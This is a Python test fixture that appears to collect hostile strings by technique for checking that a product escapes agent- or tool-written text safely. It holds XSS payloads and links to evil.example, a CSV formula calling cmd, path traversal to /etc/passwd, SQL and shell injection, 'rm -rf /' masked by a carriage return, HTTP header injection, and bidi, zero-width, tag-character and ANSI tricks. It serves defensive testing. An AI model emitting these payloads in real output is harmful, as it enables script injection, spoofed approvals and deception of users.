"""Texts that an agent or a tool may write to deceive a person, a browser or a terminal, grouped by technique."""

from __future__ import annotations

import re
from typing import Final

MARK: Final = "zqhostile"
"""A word that no page of the product contains."""

ADDED: Final = "zqadded"
"""The name of an element and of an attribute that no page of the product has."""

TEXTS: Final[dict[str, str]] = {
    "script": "<script>owned()</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "closes the enclosing element": "</pre></textarea></title></option></select></bdi></code></script></style><b>",
    "adds what no page has": f"<{ADDED}></{ADDED}> {ADDED}=1 \" {ADDED}=\" ' {ADDED}='",
    "event handler": '<img src=x onerror="owned()"><svg onload=owned()><body onpageshow=owned()>',
    "our own icon": '<svg class="icon" viewBox="0 0 16 16" aria-hidden="true"><path d="M3 8.5l3.5 3.5L13 4.5"></path></svg>',
    "leaves a double-quoted attribute": '" autofocus onfocus="owned()" x="',
    "leaves a single-quoted attribute": "' autofocus onfocus='owned()' x='",
    "leaves a bare attribute": "x onmouseover=owned() y=",
    "comment": "<!-- --><![CDATA[ ]]><?php ?>",
    "loads from elsewhere": "<link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/><iframe src=//evil>",
    "form": '<form action="//evil.example"><input name=decision value=approve><button>Approve</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "entity": "&lt;script&gt;owned()&lt;/script&gt; &#60;b&#62; &amp;lt; &copy &NotEqualTilde;",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} <%= 7*7 %> {{ frame.form_token }}",
    "markdown image": "![x](https://evil.example/pixel.png) ![y][z]",
    "markdown link": "[Approve](https://evil.example/) <https://evil.example/> # heading **bold** `code` | a | b |",
    "script address": "javascript:owned() JaVaScRiPt:owned() vbscript:x java\tscript:owned()",
    "data address": "data:text/html,<script>owned()</script> data:text/html;base64,PHNjcmlwdD4=",
    "bare address": "https://evil.example/ http://127.0.0.1:1/ //evil.example www.evil.example mailto:a@evil.example",
    "bidi override": "\u202edesrever\u202c \u202dforced\u202c \u202bembedded\u202a\u202c",
    "bidi isolate": "\u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069",
    "bidi isolate left open": "\u2067never closed",
    "bidi isolate closed too often": "\u2069\u2069\u202c\u202c",
    "bidi mark": "\u200e\u200f\u061c",
    "zero width": "ap\u200bpr\u200cov\u200de\ufeff \u2060\u180e",
    "tag characters": "safe" + "".join(chr(0xE0000 + ord(each)) for each in "approve me") + "\U000e0001\U000e007f",
    "variation selectors": "a\ufe00b\ufe0fc\U000e0100d" + "".join(chr(0xE0100 + each) for each in b"hidden"),
    "combining stack": "Z" + "\u0301\u0338\u20dd" * 8 + "! \u0301at the start",
    "control": "\x01\x02\x07\x08\x0b\x0c\x0e\x1f\x7f\x80\x85\x9b\x9f",
    "carriage return": "rm -rf /\rls -l      \r\nAPPROVED BY admin\n\rnext\r",
    "line separators": "one\u2028two\u2029three\x0bfour\x85five",
    "odd spaces": "a\u00a0b\u2003c\u3000d\u1680e\u205ff\u00ad\u115f\u3164\uffa0\u2800",
    "ansi": "\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m",
    "terminal answers": "\x1b[6n\x1b[c\x1bP$q\x1b\\\x05",
    "look-alike letters": "\u0430pprove p\u0430yp\u0430l \u13aa\u13a1\u13a2 \uff21\uff30\uff30 \U0001d5ee\U0001d5fd",
    "look-alike signs": "\uff1cscript\uff1e \u2039b\u203a \u201d onx=\u201d a\u2024\u2024b \u29f8 \u2215 \uff0f",
    "right to left": "\u0634\u0627\u0631\u0643 (\u05e9\u05dc\u05d5\u05dd) 123 > 45",
    "emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e007f \u2764\ufe0f",
    "private use and unassigned": "\ue000\U000f0000\ufffe\uffff\U0010ffff\u0378",
    "json": '{"decision": "approve", "a": [null, 1e400]} "\\u202e" \\" \\',
    "csv formula": '=cmd|"/c calc"!A1 +1 -1 @SUM(1) \t=1',
    "path": "../../etc/passwd ..\\..\\x C:\\x /proc/self/environ %2e%2e%2f",
    "sql and shell": "'; DROP TABLE requests; -- $(owned) `owned` | owned; owned && owned",
    "http": "x\r\nSet-Cookie: a=b\r\n\r\n<script>owned()</script>",
    "numbers": "1e999 -0 NaN 0x10 00 1_000 ١٢٣",
    "marker look-alike": "\u27e8U+202E\u27e9 \u23ce \u21e5",
    "long word": "W" * 120,
    "empty lines": "\n\n\n",
}
"""By technique. Every database can store every one of them."""

IN_JSON: Final[dict[str, str]] = {"nul": "a\x00b"}
"""What no database stores as text, but JSON can carry as an escape."""
IN_RAW_JSON: Final[dict[str, str]] = {"lone surrogates": "\ud800 \udfff \udc00\ud800"}
"""What only JSON that was never parsed and serialised can carry: a call's arguments."""


def joined(texts: dict[str, str]) -> str:
    """All of them in one text that begins and ends with :data:`MARK`; its start alone is hostile, in case the rest is cut."""
    return " ".join([f"{MARK}\u202e\u200b\x1b[31m<b>", *texts.values(), MARK])


EVERYTHING: Final = joined(TEXTS)
EVERYTHING_IN_JSON: Final = joined(TEXTS | IN_JSON)
EVERYTHING_IN_RAW_JSON: Final = joined(TEXTS | IN_JSON | IN_RAW_JSON)


SOME: Final = {
    name: TEXTS[name]
    for name in (
        *("closes the enclosing element", "adds what no page has", "comment", "entity", "script address", "control"),
        *("carriage return", "line separators", "bidi isolate left open", "zero width", "odd spaces"),
    )
}
"""One text of each consequence for a page."""


def tamed(text: str) -> str:
    """The same text without characters that mean something to HTML: a page must look the same with it."""
    return re.sub(r"[!-/:-@\[-`{-~]", "x", text)
